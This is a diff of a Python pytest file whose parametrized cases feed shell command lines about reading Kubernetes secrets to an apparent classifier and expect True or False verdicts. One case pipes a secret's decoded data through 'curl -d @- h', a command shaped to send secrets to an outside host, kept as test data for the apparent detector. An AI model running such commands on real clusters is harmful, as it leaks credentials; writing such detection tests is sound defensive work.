@@ -69,10 +69,7 @@ def test_a_variable_that_is_set_is_told_from_one_that_is_shown(line: bytes) -> N
 @pytest.mark.parametrize(
     ("lines", "expected"),
     [
-        (
-            b"$ kubectl get secret a -o jsonpath={.data.k} | $ base64 -d | $ openssl x509 -noout\n",
-            True,
-        ),
+        (b"$ kubectl get a -o jsonpath={.data.k} | $ base64 -d | $ openssl x509 -noout\n", True),
         (b"$ kubectl get secret db -o jsonpath={.data} | $ base64 -d\n", False),
         (b"$ kubectl get secret db -o jsonpath={.data.k} | $ curl -d @- h\n", False),
         (b"$ kubectl get secret db -o yaml | $ kubectl apply -f -\n", True),
